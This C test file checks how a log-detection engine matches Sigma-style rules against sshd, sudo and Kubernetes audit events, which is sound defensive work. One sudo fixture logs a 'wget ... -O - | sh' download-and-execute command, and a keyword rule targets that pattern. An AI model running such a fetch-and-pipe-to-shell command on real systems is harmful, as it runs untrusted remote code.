/*
 * test_match.c - detection semantics on real normalized events.
 *
 * One table of (rule, event, expected verdict).  Events come from the
 * decoders (an auth-log line or a Kubernetes audit JSON document), so the
 * rules meet exactly what the pipeline will hand them: ECS fields, list
 * fields, and for k8s events the raw audit JSON.  The verdict is
 * "logsource admits the event and the detection matches".
 */
#include <criterion/criterion.h>
#include <malloc.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "auditwatch/decode.h"
#include "auditwatch/diag.h"
#include "auditwatch/rule.h"

/* ------------------------------------------------------------ events */

/* sshd failure for an invalid user, from IPv6. */
#define A_SSH_FAIL                                                                                 \
    "Mar  3 12:00:01 web1 sshd[123]: Failed password for invalid user Admin from 2001:db8::7 "   \
    "port 2222 ssh2"
/* sshd success from IPv4. */
#define A_SSH_OK                                                                                   \
    "Mar  3 12:00:02 web1 sshd[123]: Accepted publickey for deploy from 10.1.2.3 port 51234 "     \
    "ssh2: ED25519 SHA256:abc"
/* sudo with a piped download. */
#define A_SUDO                                                                                     \
    "Mar  3 12:00:03 web1 sudo[9]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "         \
    "COMMAND=/usr/bin/wget http://x/a.sh -O - | sh"
/* sudo whose command holds the wildcard characters themselves. */
#define A_SUDO_STARS                                                                               \
    "Mar  3 12:00:04 web1 sudo[9]:    alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; "                \
    "COMMAND=/bin/echo a*b?"
#define A_SUDO_PLAIN                                                                               \
    "Mar  3 12:00:05 web1 sudo[9]:    alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; "                \
    "COMMAND=/bin/echo aXXb!"

/* kubectl exec into a pod. */
#define K_EXEC                                                                                     \
    "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"Request\","              \
    "\"auditID\":\"a1\",\"stage\":\"ResponseComplete\","                                         \
    "\"requestURI\":\"/api/v1/namespaces/default/pods/web-1/exec?command=sh&stdin=true\","       \
    "\"verb\":\"create\",\"user\":{\"username\":\"alice\",\"groups\":[\"system:authenticated\","  \
    "\"dev-team\"]},\"sourceIPs\":[\"10.20.0.5\"],\"userAgent\":\"kubectl/v1.29.3\","            \
    "\"objectRef\":{\"resource\":\"pods\",\"namespace\":\"default\",\"name\":\"web-1\","         \
    "\"subresource\":\"exec\",\"apiVersion\":\"v1\"},\"responseStatus\":{\"code\":201},"          \
    "\"requestReceivedTimestamp\":\"2024-03-03T08:30:00.000000Z\","                               \
    "\"annotations\":{\"authorization.k8s.io/decision\":\"allow\","                               \
    "\"authorization.k8s.io/reason\":\"\"}}"
/* A pod create with a request body: arrays, booleans, reals, null. */
#define K_POD                                                                                      \
    "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"RequestResponse\","      \
    "\"auditID\":\"a2\",\"stage\":\"ResponseComplete\","                                         \
    "\"requestURI\":\"/api/v1/namespaces/default/pods\",\"verb\":\"create\","                    \
    "\"user\":{\"username\":\"bob\"},\"sourceIPs\":[\"192.0.2.10\"],"                            \
    "\"objectRef\":{\"resource\":\"pods\",\"namespace\":\"default\",\"name\":\"x\","             \
    "\"apiVersion\":\"v1\"},\"responseStatus\":{\"code\":201},"                                   \
    "\"requestReceivedTimestamp\":\"2024-03-03T08:31:00Z\","                                      \
    "\"requestObject\":{\"metadata\":{\"annotations\":{\"path\":\"C:\\\\win\\\\x\","              \
    "\"note\":\"line one\\nline two\"}},\"spec\":{\"hostNetwork\":true,\"ratio\":0.5,"           \
    "\"replicas\":3,\"nullfield\":null,\"containers\":[{\"name\":\"web\","                   \
    "\"image\":\"nginx:1.25\","                                                                  \
    "\"securityContext\":{\"privileged\":true}},{\"name\":\"side\",\"image\":\"busybox:1.36\"}]}}}"

enum src { AUTH, K8S };

/* ------------------------------------------------------------ the table */

static const struct {
    const char *product; /* logsource line */
    const char *detection;
    enum src src;
    const char *record;
    bool want;
} cases[] = {
    /* plain values: case-insensitive by default, `cased` to opt out */
    {"{product: linux}", "sel: {user.name: admin}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {user.name: admi}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {user.name|cased: admin}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {user.name|cased: Admin}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {user.name|contains|cased: DMI}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {user.name|startswith|cased: Ad}", AUTH, A_SSH_FAIL, true},
    /* wildcards */
    {"{product: linux}", "sel: {user.name: 'ad*'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {user.name: '*MIN'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {user.name: 'a?min'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {user.name: 'a?in'}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {user.name: 'a*m*n'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {user.name: 'a*x*n'}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {message: 'failed*for*user*from*port*'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {message: '*for invalid user ?dmin from *'}", AUTH, A_SSH_FAIL,
     true},
    {"{product: linux}", "sel: {user.effective.name: '*'}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {user.effective.name: '*'}", AUTH, A_SUDO, true},
    /* escapes: \* and \? are the characters themselves */
    {"{product: linux}", "sel: {process.command_line: '/bin/echo a\\*b\\?'}", AUTH, A_SUDO_STARS,
     true},
    {"{product: linux}", "sel: {process.command_line: '/bin/echo a\\*b\\?'}", AUTH, A_SUDO_PLAIN,
     false},
    {"{product: linux}", "sel: {process.command_line: '/bin/echo a*b?'}", AUTH, A_SUDO_PLAIN, true},
    {"{product: linux}", "sel: {process.command_line|endswith: '\\*b\\?'}", AUTH, A_SUDO_STARS,
     true},
    {"{product: kubernetes}", "sel: {requestObject.metadata.annotations.path: 'C:\\win\\x'}", K8S,
     K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.metadata.annotations.path: 'C:\\\\win\\\\x'}",
     K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.metadata.annotations.path: 'c:\\win*'}", K8S,
     K_POD, true},
    /* position modifiers */
    {"{product: linux}", "sel: {message|contains: 'INVALID USER'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {message|startswith: 'failed password'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {message|startswith: 'password'}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {message|endswith: 'SSH2'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {message|endswith: 'ssh'}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {message|contains: 'from * port'}", AUTH, A_SSH_FAIL, true},
    /* lists: OR, or AND with `all` */
    {"{product: linux}", "sel: {event.action: [sudo, ssh_login]}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {event.action: [sudo, su]}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {message|contains|all: [invalid, admin, 2222]}", AUTH, A_SSH_FAIL,
     true},
    {"{product: linux}", "sel: {message|contains|all: [invalid, nobody]}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: [{user.name: nobody}, {event.outcome: failure}]", AUTH, A_SSH_FAIL,
     true},
    {"{product: linux}", "sel: {user.name: admin, event.outcome: success}", AUTH, A_SSH_FAIL,
     false},
    /* null, empty, exists, neq */
    {"{product: linux}", "sel: {user.effective.name: null}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {user.effective.name: null}", AUTH, A_SUDO, false},
    {"{product: linux}", "sel: {user.effective.name: [null, root]}", AUTH, A_SUDO, true},
    {"{product: linux}", "sel: {user.effective.name|exists: true}", AUTH, A_SUDO, true},
    {"{product: linux}", "sel: {user.effective.name|exists: true}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {user.effective.name|exists: false}", AUTH, A_SSH_FAIL, true},
    {"{product: kubernetes}", "sel: {annotations.authorization.k8s.io/reason: ''}", K8S, K_EXEC,
     true},
    {"{product: kubernetes}", "sel: {annotations.authorization.k8s.io/reason: '*'}", K8S, K_EXEC,
     true},
    {"{product: kubernetes}", "sel: {kubernetes.audit.annotations.decision: ''}", K8S, K_EXEC,
     false},
    {"{product: linux}", "sel: {user.name: ''}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {user.name|neq: root}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {user.name|neq: [root, admin]}", AUTH, A_SSH_FAIL, false},
    /* numbers compare as text, or numerically with gt/gte/lt/lte */
    {"{product: kubernetes}", "sel: {http.response.status_code: 201}", K8S, K_EXEC, true},
    {"{product: kubernetes}", "sel: {responseStatus.code: [401, 403]}", K8S, K_EXEC, false},
    {"{product: kubernetes}", "sel: {responseStatus.code: 201}", K8S, K_EXEC, true},
    {"{product: kubernetes}", "sel: {responseStatus.code|gte: 200}", K8S, K_EXEC, true},
    {"{product: kubernetes}", "sel: {responseStatus.code|lt: 200}", K8S, K_EXEC, false},
    {"{product: linux}", "sel: {source.port|gt: 2000}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {source.port|gt: 2222}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {source.port|lte: 2222.0}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {user.name|gt: 1}", AUTH, A_SSH_FAIL, false},
    {"{product: kubernetes}", "sel: {requestObject.spec.ratio: 0.5}", K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.spec.ratio|lt: 1}", K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.spec.replicas|gte: 3}", K8S, K_POD, true},
    /* cidr, IPv4 and IPv6 */
    {"{product: linux}", "sel: {source.ip|cidr: 10.0.0.0/8}", AUTH, A_SSH_OK, true},
    {"{product: linux}", "sel: {source.ip|cidr: 10.0.0.0/8}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {source.ip|cidr: '2001:db8::/32'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {source.ip|cidr: '2001:db9::/32'}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {source.ip|cidr: [192.168.0.0/16, '2001:db8::/32']}", AUTH,
     A_SSH_FAIL, true},
    {"{product: linux}", "sel: {source.ip|cidr: 10.1.2.3}", AUTH, A_SSH_OK, true},
    {"{product: linux}", "sel: {user.name|cidr: 10.0.0.0/8}", AUTH, A_SSH_OK, false},
    /* regular expressions */
    {"{product: linux}", "sel: {message|re: '^Failed password for invalid user \\w+ from'}", AUTH,
     A_SSH_FAIL, true},
    {"{product: linux}", "sel: {message|re: 'Admin from'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {message|re: '^failed'}", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "sel: {message|re|i: '^failed'}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {message|re: ['^nothing', 'port \\d{4} ssh2$']}", AUTH, A_SSH_FAIL,
     true},
    {"{product: kubernetes}", "sel: {requestObject.metadata.annotations.note|re: '^line two$'}",
     K8S, K_POD, false},
    {"{product: kubernetes}", "sel: {requestObject.metadata.annotations.note|re|m: '^line two$'}",
     K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.metadata.annotations.note|re: 'one.line'}", K8S,
     K_POD, false},
    {"{product: kubernetes}", "sel: {requestObject.metadata.annotations.note|re|s: 'one.line'}",
     K8S, K_POD, true},
    /* keywords search the message */
    {"{product: linux}", "keywords: ['invalid user']", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "keywords: [nomatch, 'FAILED PASSWORD']", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "keywords: 'failed*admin'", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "keywords: ['wget * - | sh']", AUTH, A_SUDO, true},
    {"{product: linux}", "keywords: ['wget * - | sh']", AUTH, A_SSH_FAIL, false},
    {"{product: linux}", "anything: [nomatch, 'publickey']", AUTH, A_SSH_OK, true},
    {"{product: linux}", "keywords: {'|all': [failed, admin]}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "keywords: {'|all': [failed, deploy]}", AUTH, A_SSH_FAIL, false},
    {"{product: kubernetes}", "keywords: [pods]", K8S, K_EXEC, false},
    /* conditions */
    {"{product: linux}",
     "sel_a: {user.name: nobody}\n    sel_b: {event.outcome: failure}\n    condition: 1 of sel_*",
     AUTH, A_SSH_FAIL, true},
    {"{product: linux}",
     "sel_a: {user.name: nobody}\n    sel_b: {event.outcome: failure}\n    condition: all of sel_*",
     AUTH, A_SSH_FAIL, false},
    {"{product: linux}",
     "sel_a: {user.name: admin}\n    sel_b: {event.outcome: failure}\n    condition: all of them",
     AUTH, A_SSH_FAIL, true},
    {"{product: linux}",
     "sel: {user.name: admin}\n    _helper: {user.name: nobody}\n    condition: all of them", AUTH,
     A_SSH_FAIL, true},
    {"{product: linux}",
     "sel: {user.name: admin}\n    _helper: {user.name: nobody}\n    condition: all of _*", AUTH,
     A_SSH_FAIL, false},
    {"{product: linux}",
     "a: {user.name: nobody}\n    b: {event.outcome: failure}\n    condition: not a and b", AUTH,
     A_SSH_FAIL, true},
    /* not binds tighter than or: (not a) or b */
    {"{product: linux}",
     "a: {user.name: nobody}\n    b: {event.outcome: failure}\n    condition: not a or b", AUTH,
     A_SSH_FAIL, true},
    {"{product: linux}",
     "a: {user.name: nobody}\n    b: {event.outcome: failure}\n    condition: not (a or b)", AUTH,
     A_SSH_FAIL, false},
    /* and binds tighter than or: a or (b and c) */
    {"{product: linux}",
     "a: {user.name: admin}\n    b: {user.name: nobody}\n    c: {event.outcome: success}\n"
     "    condition: a or b and c",
     AUTH, A_SSH_FAIL, true},
    {"{product: linux}",
     "a: {user.name: admin}\n    b: {user.name: nobody}\n    c: {event.outcome: success}\n"
     "    condition: (a or b) and c",
     AUTH, A_SSH_FAIL, false},
    {"{product: linux}",
     "a: {user.name: nobody}\n    b: {event.outcome: failure}\n    condition: [a, b]", AUTH,
     A_SSH_FAIL, true},
    {"{product: linux}",
     "a: {user.name: admin}\n    b: {event.outcome: failure}\n"
     "    condition: a AND NOT (b and not a) Or 1 of x*\n    x1: {user.name: z}",
     AUTH, A_SSH_FAIL, true},
    /* list-valued fields: ECS user.groups and the raw array */
    {"{product: kubernetes}", "sel: {kubernetes.audit.user.groups: DEV-TEAM}", K8S, K_EXEC, true},
    {"{product: kubernetes}", "sel: {user.groups: 'system:authenticated'}", K8S, K_EXEC, true},
    {"{product: kubernetes}",
     "sel: {kubernetes.audit.user.groups|all: [dev-team, 'system:authenticated']}", K8S, K_EXEC,
     true},
    {"{product: kubernetes}", "sel: {kubernetes.audit.user.groups|all: [dev-team, admins]}", K8S,
     K_EXEC, false},
    {"{product: kubernetes}", "sel: {user.groups|contains: admin}", K8S, K_EXEC, false},
    {"{product: kubernetes}", "sel: {kubernetes.audit.user.groups: null}", K8S, K_POD, true},
    /* raw audit paths, SigmaHQ style */
    {"{product: kubernetes, service: audit}",
     "sel: {verb: create, objectRef.resource: pods, objectRef.subresource: exec}", K8S, K_EXEC,
     true},
    {"{product: kubernetes}", "sel: {requestURI|contains: '/exec?'}", K8S, K_EXEC, true},
    {"{product: kubernetes}", "sel: {objectRef.subresource: exec}", K8S, K_POD, false},
    {"{product: kubernetes}", "sel: {annotations.authorization.k8s.io/decision: allow}", K8S,
     K_EXEC, true},
    {"{product: kubernetes}", "sel: {requestObject.spec.containers.image|startswith: busybox}",
     K8S, K_POD, true},
    {"{product: kubernetes}",
     "sel: {requestObject.spec.containers.securityContext.privileged: true}",
     K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.spec.containers.0.name: web}", K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.spec.containers.1.name: web}", K8S, K_POD,
     false},
    {"{product: kubernetes}", "sel: {requestObject.spec.hostNetwork: 'true'}", K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.spec.nullfield: null}", K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.spec.nullfield|exists: true}", K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.spec.absent|exists: true}", K8S, K_POD, false},
    {"{product: kubernetes}", "sel: {requestObject.spec|exists: true}", K8S, K_POD, true},
    {"{product: kubernetes}", "sel: {requestObject.spec: null}", K8S, K_EXEC, true},
    {"{product: kubernetes}", "sel: {capabilities: '*'}", K8S, K_POD, false},
    {"{product: linux}", "sel: {verb|exists: false}", AUTH, A_SSH_FAIL, true},
    {"{product: linux}", "sel: {objectRef.resource: pods}", AUTH, A_SSH_FAIL, false},
    /* logsource admission */
    {"{product: linux}", "sel: {event.action: create}", K8S, K_EXEC, false},
    {"{product: kubernetes}", "sel: {event.action: create}", K8S, K_EXEC, true},
    {"{product: kubernetes}", "sel: {event.outcome: failure}", AUTH, A_SSH_FAIL, false},
    {"{product: linux, service: sshd}", "sel: {user.name: alice}", AUTH, A_SUDO, false},
    {"{product: linux, service: sudo}", "sel: {user.name: alice}", AUTH, A_SUDO, true},
    {"{product: linux, service: auth}", "sel: {user.name: alice}", AUTH, A_SUDO, true},
    {"{product: linux, service: sshd}", "sel: {user.name: admin}", AUTH, A_SSH_FAIL, true},
};

/* ------------------------------------------------------------ harness */

struct eval {
    const struct aw_rule *rule;
    struct aw_match_ctx *m;
    int events;
    bool verdict;
};

static int on_event(void *ctx, struct aw_event *ev)
{
    struct eval *e = ctx;
    e->events++;
    e->verdict = aw_rule_logsource_admits(e->rule, ev) && aw_rule_matches(e->rule, ev, e->m);
    return 0;
}

static struct aw_decoder *decoder_for(enum src s)
{
    struct aw_decode_options opts = {
        .source = s == AUTH ? AW_SOURCE_AUTH : AW_SOURCE_K8S,
        .year = 2024,
        .now_ms = 1710000000000,
    };
    char err[200];
    struct aw_decoder *d = aw_decoder_new(&opts, err, sizeof err);
    cr_assert(d != NULL, "%s", err);
    return d;
}

/* Decode record and evaluate rule on its (single) event. */
static bool verdict(struct aw_decoder *d, const struct aw_rule *rule, struct aw_match_ctx *m,
                    const char *record)
{
    struct aw_record rec = {.data = record, .len = strlen(record)};
    rec.origin.kind = AW_ORIGIN_FILE;
    rec.origin.file = "test";
    rec.origin.line = 1;
    struct eval e = {rule, m, 0, false};
    struct aw_reject why;
    int n = aw_decoder_decode(d, &rec, on_event, &e, &why);
    cr_assert_eq(n, 1, "record not decoded to one event (%d): %s", n, why.detail);
    return e.verdict;
}

static bool load_rule(struct aw_ruleset *set, const char *product, const char *detection,
                      bool *has_condition_out)
{
    char yaml[2048];
    bool has_condition = strstr(detection, "condition:") != NULL;
    /* With one identifier and no condition, the condition is that identifier. */
    char cond[64] = "";
    if (!has_condition) {
        size_t n = strcspn(detection, ":");
        snprintf(cond, sizeof cond, "    condition: %.*s\n", (int)n, detection);
    }
    snprintf(yaml, sizeof yaml,
             "title: t\nname: t\nlogsource: %s\ndetection:\n    %s\n%s", product, detection,
             cond);
    struct aw_diags diags = {0};
    size_t problems = aw_ruleset_load_string(set, "case.yml", yaml, strlen(yaml), &diags);
    if (problems) {
        aw_diag_print(&diags, stderr);
        fprintf(stderr, "in:\n%s\n", yaml);
    }
    aw_diags_free(&diags);
    if (has_condition_out)
        *has_condition_out = has_condition;
    return problems == 0 && set->n == 1;
}

Test(match, table)
{
    struct aw_decoder *dec[2] = {decoder_for(AUTH), decoder_for(K8S)};
    struct aw_match_ctx *m = aw_match_ctx_new();
    cr_assert(m != NULL);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct aw_ruleset set = {0};
        bool loaded = load_rule(&set, cases[i].product, cases[i].detection, NULL);
        cr_expect(loaded, "case %zu: rule did not load: %s", i, cases[i].detection);
        if (loaded) {
            bool got = verdict(dec[cases[i].src], set.rules[0], m, cases[i].record);
            cr_expect_eq(got, cases[i].want, "case %zu: %s %s on %.40s... gave %s", i,
                         cases[i].product, cases[i].detection, cases[i].record,
                         got ? "match" : "no match");
        }
        aw_ruleset_free(&set);
    }
    aw_match_ctx_free(m);
    aw_decoder_free(dec[0]);
    aw_decoder_free(dec[1]);
}

/* ------------------------------------------------------------ field refs */

struct collect {
    char text[8][64];
    size_t n;
};

static bool collect_value(void *ctx, const char *text, size_t len)
{
    struct collect *c = ctx;
    if (c->n < 8)
        snprintf(c->text[c->n++], 64, "%.*s", (int)len, text);
    return false;
}

struct visit_case {
    const char *field;
    const char *want; /* values joined with "|", "" for none */
};

static struct {
    const struct visit_case *cases;
    size_t n;
    int failures;
} visit_run;

static int check_visits(void *ctx, struct aw_event *ev)
{
    (void)ctx;
    char scratch[64];
    for (size_t i = 0; i < visit_run.n; i++) {
        struct aw_field_ref ref;
        char err[200];
        cr_assert(aw_field_ref_init(&ref, visit_run.cases[i].field, err, sizeof err), "%s", err);
        struct collect c = {.n = 0};
        size_t n = aw_field_ref_visit(&ref, ev, collect_value, &c, scratch);
        char joined[512] = "";
        for (size_t k = 0; k < c.n; k++) {
            if (k)
                strcat(joined, "|");
            strcat(joined, c.text[k]);
        }
        cr_expect_eq(n, c.n);
        cr_expect_str_eq(joined, visit_run.cases[i].want, "field %s", visit_run.cases[i].field);
        struct aw_str first;
        bool has = aw_field_ref_first(&ref, ev, &first, scratch);
        cr_expect_eq(has, c.n > 0, "field %s", visit_run.cases[i].field);
        if (has)
            cr_expect(first.len == strlen(c.text[0]) && !memcmp(first.ptr, c.text[0], first.len));
        aw_field_ref_fini(&ref);
    }
    return 0;
}

Test(match, field_ref_visits_values_as_text)
{
    static const struct visit_case pod[] = {
        {"user.name", "bob"},
        {"user.username", "bob"},
        {"responseStatus.code", "201"},
        {"http.response.status_code", "201"},
        {"requestObject.spec.ratio", "0.5"},
        {"requestObject.spec.hostNetwork", "true"},
        {"requestObject.spec.nullfield", ""},
        {"requestObject.spec", ""},
        {"requestObject.spec.containers.name", "web|side"},
        {"requestObject.spec.containers.securityContext.privileged", "true"},
        {"requestObject.spec.containers.7.name", ""},
        {"sourceIPs", "192.0.2.10"},
        {"kubernetes.audit.user.groups", ""},
        {"auditwatch.origin", ""},
        {"message", ""},
    };
    struct aw_decoder *d = decoder_for(K8S);
    visit_run.cases = pod;
    visit_run.n = sizeof pod / sizeof pod[0];
    struct aw_record rec = {.data = K_POD, .len = strlen(K_POD)};
    struct aw_reject why;
    cr_assert_eq(aw_decoder_decode(d, &rec, check_visits, NULL, &why), 1, "%s", why.detail);

    static const struct visit_case exec[] = {
        {"kubernetes.audit.user.groups", "system:authenticated|dev-team"},
        {"user.groups", "system:authenticated|dev-team"},
        {"annotations.authorization.k8s.io/decision", "allow"},
        {"kubernetes.audit.annotations.reason", ""},
    };
    visit_run.cases = exec;
    visit_run.n = sizeof exec / sizeof exec[0];
    rec.data = K_EXEC;
    rec.len = strlen(K_EXEC);
    cr_assert_eq(aw_decoder_decode(d, &rec, check_visits, NULL, &why), 1, "%s", why.detail);
    aw_decoder_free(d);
}

Test(match, field_ref_init_rejects_bad_names)
{
    static const char *const bad[] = {"", ".a", "a.", "a..b", "a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p.q"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        struct aw_field_ref ref;
        char err[200];
        cr_expect(!aw_field_ref_init(&ref, bad[i], err, sizeof err), "'%s' accepted", bad[i]);
    }
    struct aw_field_ref ref;
    char err[200];
    cr_assert(aw_field_ref_init(&ref, "source.ip", err, sizeof err));
    cr_expect_eq(ref.ecs, AW_F_SOURCE_IP);
    cr_expect_eq(ref.depth, 0);
    aw_field_ref_fini(&ref);
    cr_assert(aw_field_ref_init(&ref, "a.b.c.d.e.f.g.h.i.j.k.l.m.n.o.p", err, sizeof err));
    cr_expect_eq(ref.ecs, -1);
    cr_expect_eq(ref.depth, 16);
    cr_expect_str_eq(ref.path[15], "p");
    aw_field_ref_fini(&ref);
}

/* ------------------------------------------------------------ no allocation */

static struct {
    const struct aw_rule *rules[4];
    struct aw_match_ctx *m;
    size_t before, after;
    int hits;
} alloc_run;

static int count_allocations(void *ctx, struct aw_event *ev)
{
    (void)ctx;
    /* Warm up (first regex use may set up its frames), then measure. */
    for (int k = 0; k < 4; k++)
        alloc_run.hits += aw_rule_matches(alloc_run.rules[k], ev, alloc_run.m);
    struct mallinfo2 before = mallinfo2();
    for (int round = 0; round < 200; round++)
        for (int k = 0; k < 4; k++)
            alloc_run.hits += aw_rule_matches(alloc_run.rules[k], ev, alloc_run.m);
    struct mallinfo2 after = mallinfo2();
    alloc_run.before = before.uordblks;
    alloc_run.after = after.uordblks;
    return 0;
}

Test(match, matching_allocates_nothing)
{
    static const char *const dets[] = {
        "sel: {requestObject.spec.containers.image|re: '^(nginx|busybox):\\d'}",
        "sel: {requestObject.spec.replicas|gt: 1, sourceIPs|cidr: 192.0.2.0/24}",
        "sel: {requestObject.spec.containers.name|contains|all: [we, si]}",
        "a: {requestObject.spec.ratio: 0.5}\n    b: {verb: 'cr?ate'}\n    condition: a and b",
    };
    struct aw_ruleset sets[4] = {{0}};
    for (int k = 0; k < 4; k++) {
        cr_assert(load_rule(&sets[k], "{product: kubernetes}", dets[k], NULL));
        alloc_run.rules[k] = sets[k].rules[0];
    }
    alloc_run.m = aw_match_ctx_new();
    struct aw_decoder *d = decoder_for(K8S);
    struct aw_record rec = {.data = K_POD, .len = strlen(K_POD)};
    struct aw_reject why;
    cr_assert_eq(aw_decoder_decode(d, &rec, count_allocations, NULL, &why), 1);
    cr_expect_eq(alloc_run.hits, 4 * 201, "every rule matches the pod event");
    cr_expect_eq(alloc_run.after, alloc_run.before, "heap in use changed while matching");
    aw_decoder_free(d);
    aw_match_ctx_free(alloc_run.m);
    for (int k = 0; k < 4; k++)
        aw_ruleset_free(&sets[k]);
}

Test(match, dataset_bits)
{
    struct aw_event ev;
    aw_event_init(&ev);
    cr_expect_eq(aw_event_dataset_bit(&ev), 0);
    aw_event_set_cstr(&ev, AW_F_EVENT_DATASET, "system.auth");
    cr_expect_eq(aw_event_dataset_bit(&ev), AW_DATASET_AUTH);
    aw_event_set_cstr(&ev, AW_F_EVENT_DATASET, "kubernetes.audit");
    cr_expect_eq(aw_event_dataset_bit(&ev), AW_DATASET_K8S);
    aw_event_set_cstr(&ev, AW_F_EVENT_DATASET, "kubernetes.audi");
    cr_expect_eq(aw_event_dataset_bit(&ev), 0);
    aw_event_fini(&ev);
}
